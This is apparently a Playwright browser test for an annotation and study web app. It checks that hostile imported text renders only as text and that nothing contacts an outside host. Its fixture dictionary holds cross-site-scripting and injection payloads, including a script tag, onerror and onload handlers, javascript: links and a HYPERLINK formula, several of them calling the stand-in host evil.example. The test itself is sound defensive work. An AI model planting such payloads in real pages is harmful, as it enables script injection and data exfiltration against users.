"""Hostile texts in every imported field, in names and in notes: shown as text, on every page.

A request log watches the whole time: nothing is asked of any other host.
"""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import READY, all_saved, go, sign_in
from tests.browser.servers import AppServer, sit

EVIL = "evil.example"
TEXTS = {
    "script": f"<script>window.owned=1;fetch('http://{EVIL}/s')</script>",
    "image": f"<img src=http://{EVIL}/i.png onerror='window.owned=1'>",
    "svg": f"<svg onload='window.owned=1'><image href='http://{EVIL}/v.svg'/></svg>",
    "style": f"<style>body{{display:none;background:url(http://{EVIL}/c)}}</style>",
    "form": f"<form action='http://{EVIL}/f'><button autofocus>press</button></form>",
    "markdown": f"![x](http://{EVIL}/m.png) [link](javascript:window.owned=1) # heading **bold**",
    "latex": r"$\href{javascript:window.owned=1}{x}$ $$\includegraphics{http://evil.example/l}$$",
    "ansi": "\x1b[31mred\x1b[0m \x07bell",
    "bidi": "abc \u202egnihtyna\u202c \u2066isolate\u2069 \u200f",
    "directive": ":material/home: :red[red] :smile: &lt;b&gt; {{7*7}} ${7*7}",
    "formula": '=HYPERLINK("http://evil.example/x","y")',
    "spaces": "  two  spaces\n\n\tand a tab  ",
}
ELSEWHERE = """() => [...document.querySelectorAll("[src], [href]")]
  .map((e) => new URL(e.src || e.href, location.href))
  .filter((url) => !["data:", "blob:"].includes(url.protocol) && url.host !== location.host)
  .map(String)"""
LONG = "long line " * 100_000  # 1 MB


def rows(run: str) -> list[dict[str, Any]]:
    made = [
        {"instruction": f"First repeat the input, then answer. {text}", "input": f"{text}, {name}",
         "output": f"{run}: {text}", "target": text, "extra": text, text[:20]: text}
        for name, text in TEXTS.items()
    ]  # fmt: skip
    made.append({"instruction": "First repeat the input, then answer.", "input": "long",
                 "output": LONG, "target": "x"})  # fmt: skip
    return made


@pytest.fixture
def site(app_server: Callable[..., AppServer], tmp_path: Path) -> AppServer:
    home = tmp_path / "hostile"
    names = [f"{TEXTS['image']} {TEXTS['markdown']}"[:150], f"<b>{TEXTS['directive']}</b>"]
    for name in names:
        file = tmp_path / "outputs.jsonl"
        lines = (json.dumps(row) for row in rows(name[:10]))
        file.write_text("\n".join(lines), encoding="utf-8")
        sit(home, "import", str(file), "--run", name)
    sit(home, "study", "create", f"<h1>{TEXTS['markdown']}</h1>"[:150],
        "--runs", names[0], "--runs", names[1], "--seed", "1", "--steps", "repeat,answer",
        "--annotators", "2")  # fmt: skip
    return app_server(home)


def test_hostile_texts_are_text_everywhere_and_nothing_leaves_the_page(
    site: AppServer, page: Page
) -> None:
    foreign: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda r: None if _ours(r.url, site.url) else foreign.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))

    sign_in(page, f"{site.url}/annotate", f"<img src=http://{EVIL}/n.png> **Ann**")
    seen = set()
    for _ in range(len(rows("")) * 2):
        page.wait_for_selector(".desk[data-state=working]")
        output = page.locator(".output").text_content() or ""
        seen.add(output[:3000])
        page.keyboard.press("n")
        page.keyboard.insert_text(TEXTS["script"] + TEXTS["markdown"])
        page.keyboard.press("Escape")
        now = page.locator(".desk").get_attribute("data-sample")
        page.keyboard.press("h")
        page.keyboard.press("1")
        page.keyboard.press("q")
        page.wait_for_selector(f'.desk:not([data-sample="{now}"]):not([data-state=loading])')
    all_saved(page)
    expect(page.locator(".desk")).to_have_attribute("data-state", "done")
    shown = "\n".join(seen)
    for text in TEXTS.values():
        assert text in shown  # to the letter

    page.keyboard.press("l")
    page.wait_for_selector(".item")
    study = quote(json.loads(sit(site.home, "study", "list", "--json"))[0]["name"])
    lines = sit(site.home, "export", "predictions", "--study", unquote(study), "--format", "jsonl")
    samples = [json.loads(line)["prediction_id"] for line in lines.splitlines()]
    places = [f"inspect?sample={sample}&study={study}" for sample in samples]
    places += [f"{p}?study={study}" for p in ("results", "studies", "inspect")]
    for place in [*places, "import", "studies", "results", "inspect", ""]:
        go(page, f"{site.url}/{place}")
        if place == "studies":
            page.get_by_role("button", name="New study").click()
        page.wait_for_timeout(500)  # what is loaded lazily (charts, tables) comes after the script
        assert page.evaluate("() => window.owned") is None, place
        assert page.locator("h1", has_text="link").count() == 0, place
        assert page.locator("a[href^='javascript']").count() == 0, place
        assert page.evaluate(ELSEWHERE) == [], place
        assert page.locator(".stException").count() == 0, place
    page.wait_for_selector(READY)
    assert foreign == []
    assert dialogs == []


def _ours(url: str, base: str) -> bool:
    return url.startswith((base, "data:", "blob:", base.replace("http", "ws")))
